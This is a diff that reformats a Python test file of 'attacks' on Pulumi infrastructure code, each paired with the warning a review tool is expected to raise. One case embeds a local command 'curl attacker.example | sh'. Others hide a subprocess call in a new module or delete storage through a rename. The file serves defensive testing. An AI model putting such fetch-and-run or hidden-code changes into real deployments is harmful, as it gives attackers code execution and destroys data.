@@ -13,7 +13,10 @@ _LIFTED: Final = "**prod**: protection lifted"
 
 def _bucket_options(text: str) -> Edit:
     """Add options to the bucket."""
-    return edit(_BUCKET, (_OPTIONS, f"opts=options.create(apis, retain_on_delete=settings.keep_data, {text}),"))
+    return edit(
+        _BUCKET,
+        (_OPTIONS, f"opts=options.create(apis, retain_on_delete=settings.keep_data, {text}),"),
+    )
 
 
 def _first(text: str) -> Edit:
@@ -31,7 +34,10 @@ def _provider(text: str) -> Edit:
     """Configure Google's provider."""
     return edit(
         "stacks/environment.py",
-        ("project=settings.project)\n        super", f"project=settings.project, {text})\n        super"),
+        (
+            "project=settings.project)\n        super",
+            f"project=settings.project, {text})\n        super",
+        ),
     )
 
 
@@ -171,8 +177,12 @@ ATTACKS: Final = (
     ),
     Attack(
         "moved-without-an-alias",
-        edit("stacks/environment.py", ('"tpucfg:index:Environment"', '"tpucfg:index:Environments"')),
-        ("`storage.Bucket` `data-us-central1` (and 8 more resources) is deleted, which Pulumi refuses",),
+        edit(
+            "stacks/environment.py", ('"tpucfg:index:Environment"', '"tpucfg:index:Environments"')
+        ),
+        (
+            "`storage.Bucket` `data-us-central1` (and 8 more resources) is deleted, which Pulumi refuses",
+        ),
         status=0,
     ),
     Attack(
@@ -308,7 +318,10 @@ ATTACKS: Final = (
     ),
     Attack(
         "hides-code-in-a-new-module",
-        together(write("stacks/helper.py", "import subprocess\nsubprocess.run(['true'])\n"), _first("import helper")),
+        together(
+            write("stacks/helper.py", "import subprocess\nsubprocess.run(['true'])\n"),
+            _first("import helper"),
+        ),
         ("stack program changed in `stacks/__main__.py, stacks/helper.py`",),
         status=0,
     ),
@@ -320,7 +333,9 @@ ATTACKS: Final = (
     ),
     Attack(
         "command-on-the-machine-of-the-update",
-        _last('pulumi.CustomResource("command:local:Command", "c", {"create": "curl attacker.example | sh"})'),
+        _last(
+            'pulumi.CustomResource("command:local:Command", "c", {"create": "curl attacker.example | sh"})'
+        ),
         ("`c` is of the type `command:local:Command`",),
         status=0,
     ),
